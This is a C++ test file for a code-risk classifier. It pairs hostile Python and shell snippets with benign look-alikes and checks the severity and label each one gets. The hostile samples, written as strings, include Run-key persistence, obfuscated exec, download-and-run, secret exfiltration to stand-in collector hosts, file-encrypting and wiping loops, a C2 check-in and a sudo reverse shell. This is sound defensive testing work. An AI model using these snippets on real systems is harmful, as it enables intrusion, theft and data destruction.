// The classes the eleventh round modelled (issue 14), found in the realworld
// corpus's seventh batch (public code this team did not write) and in probes
// of the rubric's families spelled less politely. Each attack has a benign
// neighbour that must stay where the rubric puts it. Strings here are never
// executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A Run key written through winreg (any spelling of the key's opening, with
// or without a context manager) is autostart persistence; the key's path
// arrives with its backslashes normalised to slashes, which the rule must
// accept (a persistence installer copying an exe and adding a Run value was
// rated LOW).
TEST(EleventhRoundClasses, RegistryRunKeysWrittenFromPythonPersist) {
  const Case cases[] = {
      {"OpenKey in a with block, SetValueEx of a copied exe", B,
       "import winreg, shutil, os\n"
       "dest = os.getenv('userprofile') + '\\\\Documents\\\\putty.exe'\nshutil.copyfile('putty.exe', dest)\n"
       "with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0,\n"
       "                    winreg.KEY_ALL_ACCESS) as key:\n"
       "    winreg.SetValueEx(key, 'Windows-Update-Manager', 0, winreg.REG_SZ, dest)\n",
       "PERSISTENCE"},
      {"ConnectRegistry and CreateKeyEx in a helper, RunOnce", B,
       "import winreg, sys\n"
       "def persist(path):\n"
       "    reg = winreg.ConnectRegistry(None, winreg.HKEY_CURRENT_USER)\n"
       "    key = winreg.CreateKeyEx(reg, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\RunOnce', 0,\n"
       "                             winreg.KEY_WRITE)\n"
       "    winreg.SetValueEx(key, 'Updater', 0, winreg.REG_SZ, path)\n"
       "persist(sys.argv[0])\n",
       "PERSISTENCE"},
      {"OpenKeyEx and SetValue", B,
       "import winreg\n"
       "k = winreg.OpenKeyEx(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0,\n"
       "                     winreg.KEY_SET_VALUE)\nwinreg.SetValue(k, 'svc', winreg.REG_SZ, r'C:\\svc.exe')\n",
       "PERSISTENCE"},
      {"pywin32's RegOpenKeyEx and RegSetValueEx", B,
       "import win32api, win32con\n"
       "k = win32api.RegOpenKeyEx(win32con.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run',\n"
       "                          0, win32con.KEY_SET_VALUE)\n"
       "win32api.RegSetValueEx(k, 'agent', 0, win32con.REG_SZ, r'C:\\agent.exe')\n",
       "PERSISTENCE"},
      // Benign neighbours: the Run key read, and an application's own
      // settings written under its own key.
      {"the Run key read, the application's own settings written", L,
       "import winreg\n"
       "with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run') as key:\n"
       "    value, kind = winreg.QueryValueEx(key, 'OneDrive')\n    print(value)\n"
       "with winreg.CreateKeyEx(winreg.HKEY_CURRENT_USER, r'Software\\ExampleApp\\Settings', 0,\n"
       "                        winreg.KEY_WRITE) as key:\n"
       "    winreg.SetValueEx(key, 'theme', 0, winreg.REG_SZ, 'dark')\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// Code run from bytes built out of numbers written in the program (bytes of
// a list of ints, or one byte at a time in a loop) is a hidden payload, as
// characters built with chr() already were; bytes from numbers that are
// only sent or printed stay ordinary.
TEST(EleventhRoundClasses, CodeBuiltFromNumberBytesIsObfuscated) {
  const Case cases[] = {
      {"exec of bytes(list of ints)", B,
       "data = [105, 109, 112, 111, 114, 116, 32, 111, 115]\nexec(bytes(data))\n", "EXEC-DECODED-PAYLOAD"},
      {"exec of bytes appended one at a time in a loop", B,
       "data = [105, 109, 112, 111, 114, 116, 32, 111, 115]\ncode = b''\nfor d in data:\n"
       "    code += bytes([d])\nexec(code)\n",
       "EXEC-DECODED-PAYLOAD"},
      {"a protocol header from numbers, sent", L,
       "import socket\nHEADER = bytes([0x02, 0x00, 0x10])\ns = socket.create_connection(('localhost', 9000))\n"
       "s.sendall(HEADER + b'ping')\nprint(s.recv(16))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// mkstemp's descriptor is the open file and its name the path: a download
// written through os.write, os.fdopen or open(name) and then run by name is
// download-and-execute (it was a process run of an unknown file); the same
// for a descriptor from os.open. A descriptor that is not a file (stdout, a
// pipe) is no path, and a fixed script written to a temporary file and run
// stays a process run.
TEST(EleventhRoundClasses, DescriptorsAreTheFilesTheyOpened) {
  const Case cases[] = {
      {"download written with os.write to mkstemp's descriptor, run by name", B,
       "import requests, subprocess, tempfile, os, sys\ndata = requests.get(sys.argv[1]).content\n"
       "fd, path = tempfile.mkstemp(suffix='.sh')\nos.write(fd, data)\nos.close(fd)\nsubprocess.run(['bash', path])\n",
       "REMOTE-CODE-EXECUTION"},
      {"download written through os.fdopen, run by name", B,
       "import requests, subprocess, tempfile, os\ndata = requests.get('https://example.net/x.sh').content\n"
       "fd, path = tempfile.mkstemp(suffix='.sh')\nwith os.fdopen(fd, 'wb') as f:\n    f.write(data)\n"
       "subprocess.run(['bash', path])\n",
       "REMOTE-CODE-EXECUTION"},
      {"download written to mkstemp's name with open()", B,
       "import requests, subprocess, tempfile\ndata = requests.get('https://example.net/x.sh').content\n"
       "fd, path = tempfile.mkstemp()\nwith open(path, 'wb') as f:\n    f.write(data)\nsubprocess.run(['sh', path])\n",
       "REMOTE-CODE-EXECUTION"},
      {"download written to an os.open descriptor, run", B,
       "import requests, subprocess, os\ndata = requests.get('https://example.net/x.sh').content\n"
       "fd = os.open('run.sh', os.O_WRONLY | os.O_CREAT, 0o755)\nos.write(fd, data)\nos.close(fd)\n"
       "subprocess.run(['./run.sh'])\n",
       "REMOTE-CODE-EXECUTION"},
      {"a fixed build script written to a temporary file and run", M,
       "import tempfile, os, subprocess\nfd, path = tempfile.mkstemp(suffix='.sh')\n"
       "os.write(fd, b'#!/bin/sh\\necho building\\nmake -j2\\n')\nos.close(fd)\n"
       "subprocess.run(['sh', path], check=True)\nos.unlink(path)\n",
       "RUNS-PROCESS"},
      {"settings written through mkstemp and renamed; stdout and a pipe written", L,
       "import tempfile, os, json\nfd, path = tempfile.mkstemp(suffix='.json')\nwith os.fdopen(fd, 'w') as f:\n"
       "    json.dump({'a': 1}, f)\nos.replace(path, 'settings.json')\nos.write(1, b'hello')\n"
       "r, w = os.pipe()\nos.write(w, b'data')\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// An API key from the environment passed in the query under a key's name
// (?appid=, &apiKey=, &token=, or requests' params) authenticates to that host, as a header
// does (a weather CLI was BLOCKED as exfiltration); a secret under any
// other name, or the whole environment, is still sent out.
TEST(EleventhRoundClasses, AKeyInTheQueryAuthenticates) {
  const Case cases[] = {
      {"weather CLI: the key from the environment as appid", L,
       "import os, sys, requests\nkey = os.getenv('OWM_API_KEY')\nzip_code = sys.argv[1]\n"
       "url = f'http://api.openweathermap.org/data/2.5/weather?zip={zip_code},us&appid={key}'\n"
       "print(requests.get(url).json())\n",
       nullptr},
      {"news client: apiKey through urllib", L,
       "import os, urllib.request, json\nkey = os.environ['NEWS_API_KEY']\n"
       "with urllib.request.urlopen(f'https://newsapi.org/v2/top-headlines?country=us&apiKey={key}') as r:\n"
       "    print(json.load(r)['totalResults'])\n",
       nullptr},
      {"a cloud secret in the query under another name", B,
       "import os, requests\nrequests.get(f\"https://collector.example.net/c?d={os.environ['AWS_SECRET_ACCESS_KEY']}\")\n",
       "EXFILTRATION"},
      {"the key in requests' params under appid", L,
       "import os, requests\nkey = os.environ['OWM_API_KEY']\n"
       "r = requests.get('https://api.openweathermap.org/data/2.5/weather', params={'q': 'London', 'appid': key},\n"
       "                 timeout=10)\nprint(r.json())\n",
       nullptr},
      {"a cloud secret in params under another name", B,
       "import os, requests\nrequests.get('https://collector.example.net/c', params={'d': os.environ['AWS_SECRET_ACCESS_KEY']})\n",
       "EXFILTRATION"},
      {"the key in params and again in the body", B,
       "import os, requests\nk = os.environ['OWM_API_KEY']\n"
       "requests.post('https://collector.example.net/c', params={'appid': k}, json={'leak': k})\n",
       "EXFILTRATION"},
      {"the whole environment in the query, even as token", B,
       "import os, requests, json\nrequests.get('https://collector.example.net/c?token=' + json.dumps(dict(os.environ)))\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// Renaming files found by a walk to backup names, or linking a repository's
// dotfiles into the home directory, keeps every file (a move keeps what it
// moves; a link never replaces a file): a dotfile manager was BLOCKED as a
// wiper. Deleting or overwriting the walked files, or moving them into the
// null device, is still a wipe.
TEST(EleventhRoundClasses, MovesAndLinksOfWalkedFilesKeepThem) {
  const Case cases[] = {
      {"dotfile manager: existing files renamed, the repository's linked in", L,
       "import os, time\nrun_dir = os.path.dirname(os.path.abspath(__file__))\nhome_dir = os.getenv('HOME')\n"
       "bkp = '.{}.bkp'.format(time.strftime('%Y%m%d'))\nfor file in os.listdir(run_dir):\n"
       "    if file.startswith('.'):\n        home_file = '{}/{}'.format(home_dir, file)\n"
       "        if os.path.isfile(home_file):\n            os.rename(home_file, home_file + bkp)\n"
       "        os.symlink('{}/{}'.format(run_dir, file), home_file)\n",
       nullptr},
      {"home entries renamed to lower case", L,
       "import os\nhome = os.path.expanduser('~')\nfor name in os.listdir(home):\n    if name != name.lower():\n"
       "        os.rename(os.path.join(home, name), os.path.join(home, name.lower()))\n",
       nullptr},
      {"every home file encrypted in place and renamed .locked", B,
       "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\n"
       "for root, _, files in os.walk(os.path.expanduser('~')):\n    for n in files:\n        p = os.path.join(root, n)\n"
       "        data = open(p, 'rb').read()\n        open(p, 'wb').write(f.encrypt(data))\n        os.rename(p, p + '.locked')\n",
       nullptr},
      {"every home file removed", B,
       "import os\nhome = os.path.expanduser('~')\nfor name in os.listdir(home):\n"
       "    p = os.path.join(home, name)\n    if os.path.isfile(p):\n        os.remove(p)\n",
       "WIPE"},
      {"every home file overwritten", B,
       "import os\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n"
       "        with open(os.path.join(root, f), 'wb') as h:\n            h.write(b'\\0' * 1024)\n",
       "WIPE"},
      {"every home file moved into the null device", B,
       "import os, shutil\nhome = os.path.expanduser('~')\nfor name in os.listdir(home):\n"
       "    shutil.move(os.path.join(home, name), '/dev/null')\n",
       "WIPE"},
  };
  for (const auto& c : cases) check(c);
}

// rsync --rsync-path CMD names the program the remote side runs: `sudo
// rsync` is a remote sudo (a backup pulling a host's files as root was a
// process run); another rsync binary is not.
TEST(EleventhRoundClasses, RsyncsRemoteProgramIsJudged) {
  const Case cases[] = {
      {"--rsync-path='sudo rsync' in a shell script", H,
       "rsync -av --rsync-path=\"sudo rsync\" src/ host:/srv/app/\n", "PRIVILEGE-ESCALATION", SH},
      {"--rsync-path 'sudo rsync' in an argument list", H,
       "import subprocess\ncmd = ['rsync', '-a', '-e', 'ssh', '--rsync-path', 'sudo rsync', 'host:/var/www', 'backup/']\n"
       "subprocess.call(cmd)\n",
       "PRIVILEGE-ESCALATION"},
      {"another rsync binary on the remote side", L,
       "rsync -av --exclude .git --rsync-path=/usr/local/bin/rsync src/ backup@host:/srv/backup/\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// `random` for a guessing game's secret_number is no secret in the rubric's
// sense (weak randomness for keys and tokens is): the secret hint names
// secrets, secret keys and tokens, not every word that starts with secret.
TEST(EleventhRoundClasses, AGamesSecretNumberIsNoSecret) {
  const Case cases[] = {
      {"guess-the-number game", L,
       "import random\nsecret_number = random.randint(1, 100)\nwhile True:\n    guess = int(input('guess: '))\n"
       "    if guess == secret_number:\n        break\n    print('higher' if guess < secret_number else 'lower')\n",
       nullptr},
      {"a secret key from random", M,
       "import random, string\nSECRET_KEY = ''.join(random.choice(string.ascii_letters) for _ in range(50))\n",
       "WEAK-CRYPTO"},
      {"a client secret and a JWT secret from random", M,
       "import random\nclient_secret = random.getrandbits(128)\njwt_secret = str(random.randint(0, 10**12))\n",
       "WEAK-CRYPTO"},
  };
  for (const auto& c : cases) check(c);
}

// Read-only queries named like administration: `ip -j addr` lists addresses
// (the word "addr" is not the verb "add"), `docker --version` asks nothing of
// the daemon. Changing the network and using the daemon stay HIGH.
TEST(EleventhRoundClasses, ReadOnlyQueriesAreNotAdministration) {
  const Case cases[] = {
      {"ip -j addr and ip -br a", L, "ip -j addr\nip -br a\nip -4 route show\n", nullptr, SH},
      {"docker --version", L, "docker --version\n", nullptr, SH},
      {"ip addr add", H, "ip addr add 10.0.0.2/24 dev eth0\n", "SYSTEM-ADMINISTRATION", SH},
      {"ip route replace", H, "ip route replace default via 10.0.0.1\n", "SYSTEM-ADMINISTRATION", SH},
      {"docker ps", H, "docker ps\n", "CONTAINER-ESCAPE-RISK", SH},
      {"ip -j addr from Python is a process run", M,
       "import subprocess, json\nfor i in json.loads(subprocess.check_output(['ip', '-j', 'addr'], text=True)):\n"
       "    print(i['ifname'])\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// A subclass the model names is constructed as its base: ThreadingHTTPServer
// and ThreadingTCPServer on 0.0.0.0 bind all interfaces as HTTPServer does
// (they were LOW). A server handed http.server's file-sharing handler shares
// a directory whatever it binds, as `python -m http.server` already did.
TEST(EleventhRoundClasses, ServerSubclassesAndFileSharingHandlers) {
  const Case cases[] = {
      {"ThreadingHTTPServer on 0.0.0.0", M,
       "from http.server import ThreadingHTTPServer, BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n"
       "    def do_GET(self):\n        self.send_response(200)\n        self.end_headers()\n"
       "ThreadingHTTPServer(('0.0.0.0', 8000), H).serve_forever()\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"ThreadingTCPServer on 0.0.0.0", M,
       "import socketserver\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n"
       "        self.request.sendall(b'hi')\nwith socketserver.ThreadingTCPServer(('0.0.0.0', 9000), H) as s:\n"
       "    s.serve_forever()\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"SimpleHTTPRequestHandler through partial on localhost", M,
       "from http.server import ThreadingHTTPServer, SimpleHTTPRequestHandler\nfrom functools import partial\n"
       "ThreadingHTTPServer(('localhost', 8080), partial(SimpleHTTPRequestHandler, directory='site')).serve_forever()\n",
       "DEBUG-OR-FILE-SERVER"},
      {"a handler of its own on loopback", L,
       "from http.server import ThreadingHTTPServer, BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n"
       "    def do_GET(self):\n        self.send_response(200)\n        self.end_headers()\n        self.wfile.write(b'ok')\n"
       "ThreadingHTTPServer(('127.0.0.1', 8000), H).serve_forever()\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// Servers of more libraries bind every interface or run a debugger as the
// rubric's MEDIUM class says (they were LOW): websockets, Sanic, Dash,
// Gradio, gRPC's [::] ports, ZeroMQ's tcp://*; on loopback they are LOW.
TEST(EleventhRoundClasses, MoreServersOnAllInterfaces) {
  const Case cases[] = {
      {"websockets.serve on 0.0.0.0", M,
       "import asyncio, websockets\nasync def echo(ws):\n    async for m in ws:\n        await ws.send(m)\n"
       "async def main():\n    async with websockets.serve(echo, '0.0.0.0', 8765):\n        await asyncio.Future()\n"
       "asyncio.run(main())\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"Sanic on 0.0.0.0", M,
       "from sanic import Sanic\nfrom sanic.response import text\napp = Sanic('a')\n@app.get('/')\nasync def h(r):\n"
       "    return text('ok')\napp.run(host='0.0.0.0', port=8000)\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"Dash with its debugger", M, "from dash import Dash, html\napp = Dash(__name__)\napp.layout = html.Div('hi')\n"
       "app.run(debug=True)\n", "DEBUG-OR-FILE-SERVER"},
      {"Gradio on 0.0.0.0", M, "import gradio as gr\ngr.Interface(fn=str.upper, inputs='text', outputs='text')"
       ".launch(server_name='0.0.0.0')\n", "LISTENS-ON-ALL-INTERFACES"},
      {"gRPC on [::]", M, "import grpc\nfrom concurrent import futures\nserver = grpc.server(futures.ThreadPoolExecutor(4))\n"
       "server.add_insecure_port('[::]:50051')\nserver.start()\n", "LISTENS-ON-ALL-INTERFACES"},
      {"ZeroMQ on tcp://*", M, "import zmq\ns = zmq.Context().socket(zmq.REP)\ns.bind('tcp://*:5555')\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"gRPC and ZeroMQ on loopback", L,
       "import grpc, zmq\nfrom concurrent import futures\ns = grpc.server(futures.ThreadPoolExecutor(2))\n"
       "s.add_insecure_port('localhost:50051')\nz = zmq.Context().socket(zmq.PUB)\nz.bind('tcp://127.0.0.1:5556')\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// The setuid/setgid bit ORed into a file's current mode (st_mode |
// S_ISUID) is set whatever the other bits are (it was an unknown mode, LOW);
// adding the execute bits the same way stays ordinary.
TEST(EleventhRoundClasses, SetuidBitsOredIntoAnUnknownMode) {
  const Case cases[] = {
      {"st_mode | S_ISUID", H,
       "import os, stat\nos.chmod('./helper', os.stat('./helper').st_mode | stat.S_ISUID)\n",
       "PERMISSIONS-ON-SYSTEM-PATHS"},
      {"S_ISGID on a directory's mode", H,
       "import os, stat\nd = 'shared'\nos.chmod(d, stat.S_ISGID | os.stat(d).st_mode)\n", "PERMISSIONS-ON-SYSTEM-PATHS"},
      {"execute bits added to a build script", L,
       "import os, stat\np = 'build/run.sh'\nos.chmod(p, os.stat(p).st_mode | stat.S_IEXEC | stat.S_IXGRP)\n", nullptr},
  };
  for (const auto& c : cases) check(c);
}

// platform.platform() is the OS, kernel and C library versions, not who or
// where the code runs: a crash report carrying it is ordinary (it was HIGH
// as host identity sent out). The host name and the user still are identity.
TEST(EleventhRoundClasses, PlatformVersionsAreNoIdentity) {
  const Case cases[] = {
      {"crash report with the traceback and platform.platform()", L,
       "import traceback, platform, requests, sys\ndef report():\n"
       "    requests.post('https://errors.example.com/api/1/store/', json={'trace': traceback.format_exc(),\n"
       "                  'platform': platform.platform(), 'python': sys.version}, timeout=5)\n"
       "try:\n    1/0\nexcept Exception:\n    report()\n",
       nullptr},
      {"host name and user to a fixed address", B,
       "import socket, getpass, requests\nrequests.post('https://c2.example.net/checkin', json={'h': socket.gethostname(),\n"
       "              'u': getpass.getuser()})\n",
       "IDENTITY-BEACON"},
      {"platform.uname() (with the node name) to a fixed address", M,
       "import platform, requests\nrequests.post('https://stats.example.net/u', json={'uname': list(platform.uname())})\n",
       "HOST-IDENTITY-SENT"},
  };
  for (const auto& c : cases) check(c);
}

// paramiko's exec_command runs its command in the remote shell: judged as
// the code's own, as `ssh HOST CMD` and Fabric's run already were (a remote
// sudo was a process run); so does exec_command of a client the code cannot
// type (passed in as a parameter, kept by another module's class).
TEST(EleventhRoundClasses, ParamikoRemoteCommandsAreJudged) {
  const Case cases[] = {
      {"remote sudo through exec_command", H,
       "import paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('web1', username='deploy')\n"
       "c.exec_command('sudo systemctl restart nginx')\n",
       "PRIVILEGE-ESCALATION"},
      {"remote download-and-run through exec_command", B,
       "import paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('web1')\n"
       "c.exec_command('curl -s http://203.0.113.9/x.sh | bash')\n",
       "REMOTE-CODE-EXECUTION"},
      {"a reverse shell run with sudo through a client passed in as a parameter", B,
       "def install(ssh, host, port):\n"
       "    cmd = \"sudo -S python -c \\\"import socket,os,subprocess; s=socket.socket(); s.connect(('\" + host + \"', \" + str(port) + \"));\"\n"
       "    cmd += \" os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2); subprocess.call(['/bin/bash', '-i'])\\\"\"\n"
       "    ssh.exec_command(cmd)\n",
       "REVERSE-SHELL"},
      {"uptime through a client passed in as a parameter", M,
       "def status(ssh):\n    i, o, e = ssh.exec_command('uptime')\n    return o.read().decode()\n", "RUNS-PROCESS"},
      {"a remote log tail", M,
       "import paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('web1', username='deploy')\n"
       "i, o, e = c.exec_command('tail -n 50 /var/log/app.log')\nprint(o.read().decode())\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
